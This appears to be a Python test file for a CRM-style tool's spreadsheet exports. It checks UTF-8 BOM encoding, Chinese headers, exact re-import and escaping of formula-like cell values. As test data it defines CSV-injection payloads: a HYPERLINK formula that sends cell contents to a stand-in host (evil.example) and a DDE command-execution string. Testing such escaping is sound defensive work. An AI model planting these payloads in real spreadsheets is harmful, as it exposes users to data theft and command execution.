"""Files a spreadsheet opens: the CSV bundle opens right in Excel on Chinese Windows
(UTF-8 with BOM, Chinese headers and values with lang zh), nothing in them runs as a
formula, and they still import back to exactly the account."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from graph.bundle import COLUMN_ALIASES
from graph.formulas import escape_formula, unescape_formula
from graph.model import (
    Account,
    AccountBundle,
    Interaction,
    Order,
    Stakeholder,
    TeamMember,
)
from graph.vocabulary import Language
from importers.formats import ImportFormat, read_import
from importers.survey import SurveyFormat, survey_document
from tests.factories import graph_of, hostile_org, small_org
from tests.importers.test_survey import ANSWERS, fill_csv, fill_workbook
from visualize.formats import BUNDLE_STEMS, bundle_files, bundle_zip, chinese_headers

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|' -C calc'!A0"  # ids may not hold '/' (they are URL segments)


def formula_org() -> object:
    """People and things named like formulas, in every text column a CSV carries."""
    bundle = AccountBundle(
        account_id="acme",
        stakeholders=(
            Stakeholder(
                account_id="acme",
                id=DDE,
                name=HYPERLINK,
                title="+1 cmd",
                department="-2 dept",
                email="@SUM(A1:A9)",
                notes="'=already escaped?",
                priorities="''two apostrophes",
            ),
            Stakeholder(account_id="acme", id="b", name="'quote", reports_to=DDE),
        ),
        members=(TeamMember(account_id="acme", id="@rep", name="=1+1"),),
        interactions=(
            Interaction(
                account_id="acme",
                date=date(2026, 3, 5),
                member="@rep",
                stakeholders=(DDE, "b"),
                sentiment=-1,
                note="-negative note",
            ),
        ),
        orders=(Order(account_id="acme", date=date(2026, 3, 6), amount=5, product="=SUM(1)"),),
    )
    return graph_of(bundle, Account(id="acme", name="=Acme"))


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("make", [small_org, hostile_org, lambda _: formula_org()])
def test_the_csv_bundle_reimports_to_exactly_the_account(
    tmp_path: Path, lang: Language, make: object
) -> None:
    made = make("acme")  # type: ignore[operator]
    graph = made if hasattr(made, "account") else graph_of(made)
    path = tmp_path / "acme.zip"
    path.write_bytes(bundle_zip(graph, lang=lang))
    result = read_import(path, account_id="acme")
    assert result.report.errors == []
    assert result.report.warnings == []  # every column was known
    assert result.bundle is not None
    assert graph_of(result.bundle, graph.account) == graph


def test_every_file_starts_with_a_bom_so_excel_reads_utf8() -> None:
    graph = graph_of(small_org("acme"))
    with zipfile.ZipFile(io.BytesIO(bundle_zip(graph))) as archive:
        for name in archive.namelist():
            assert archive.read(name).startswith(b"\xef\xbb\xbf"), name


def test_lang_zh_writes_chinese_headers_and_values() -> None:
    graph = graph_of(small_org("acme"))
    files = bundle_files(graph, lang="zh")
    rows = _csv(files["stakeholders.csv"])
    assert rows[0] == [
        "编号", "姓名", "职务", "部门", "级别", "角色", "态度", "状态", "上级",
        "邮箱", "电话", "备注", "诉求",
    ]  # fmt: skip
    zhou = next(row for row in rows if row[0] == "zhou")
    # executive, decision_maker, skeptic, active as DESIGN.md's Chinese labels
    assert zhou[4:8] == ["高管", "决策者", "怀疑者", "在职"]
    assert _csv(files["influence.csv"])[0] == ["影响者", "被影响者", "权重", "类型"]
    # English stays the canonical names
    assert _csv(bundle_files(graph)["stakeholders.csv"])[0][:3] == ["id", "name", "title"]


def test_every_column_of_every_file_has_a_chinese_header_the_importer_knows() -> None:
    for kind, stem in BUNDLE_STEMS.items():
        columns = [name for name in kind.model_fields if name != "account_id"]
        headers = chinese_headers(stem)
        assert set(columns) <= set(headers), stem
        for column in columns:
            assert headers[column] in COLUMN_ALIASES[stem][column]


def test_no_csv_cell_starts_like_a_formula_and_numbers_stay_numbers() -> None:
    files = bundle_files(formula_org())  # type: ignore[arg-type]
    people = _csv(files["stakeholders.csv"])
    first = dict(zip(people[0], people[1], strict=True))
    assert first["id"] == "'" + DDE
    assert first["name"] == "'" + HYPERLINK
    assert (first["title"], first["department"], first["email"]) == (
        "'+1 cmd",
        "'-2 dept",
        "'@SUM(A1:A9)",
    )
    assert first["notes"] == "''=already escaped?"  # one more apostrophe: it reads back as typed
    assert first["priorities"] == "'''two apostrophes"
    event = dict(zip(*_csv(files["interactions.csv"])[:2], strict=True))
    assert event["sentiment"] == "-1"
    assert event["note"] == "'-negative note"
    assert event["stakeholders"] == "'" + DDE + ";b"
    for text in files.values():
        for row in _csv(text):
            for cell in row:
                assert not cell or cell[0] not in "=+@\t\r"


@given(st.text())
def test_escaping_is_undone_exactly(text: str) -> None:
    escaped = escape_formula(text)
    assert unescape_formula(escaped) == text
    assert not escaped or escaped[0] not in "=+-@\t\r"


def test_the_survey_workbook_holds_names_as_text_never_formulas(tmp_path: Path) -> None:
    graph = formula_org()
    data, _ = survey_document(graph, SurveyFormat.xlsx, stakeholders=[DDE])  # type: ignore[arg-type]
    path = tmp_path / "survey.xlsx"
    path.write_bytes(data)
    workbook = load_workbook(path)  # formulas as formulas, not their cached values
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert HYPERLINK in {cell.value for cell in cells}
    assert DDE in {cell.value for cell in cells}
    assert "=Acme" in str(workbook.worksheets[0]["A1"].value)
    # Filled in and read back, the answers belong to the person with that id.
    fill_workbook(path, {DDE: ANSWERS["li"]}, date(2026, 11, 20))
    result = read_import(path, account_id="acme", format=ImportFormat.survey)
    assert result.report.errors == []
    assert result.bundle is not None
    assert [a.stakeholder for a in result.bundle.assessments] == [DDE]


def test_the_survey_csv_escapes_formulas_and_reads_back(tmp_path: Path) -> None:
    graph = formula_org()
    data, _ = survey_document(graph, SurveyFormat.csv, stakeholders=[DDE])  # type: ignore[arg-type]
    path = tmp_path / "survey.csv"
    path.write_bytes(data)
    rows = _csv(path.read_text(encoding="utf-8"))
    assert {row[2] for row in rows[1:]} == {"'" + HYPERLINK}
    fill_csv(path, {"'" + DDE: ANSWERS["li"]}, "2026-11-20")
    result = read_import(path, account_id="acme", format=ImportFormat.survey)
    assert result.report.errors == []
    assert result.bundle is not None
    assert [a.stakeholder for a in result.bundle.assessments] == [DDE]
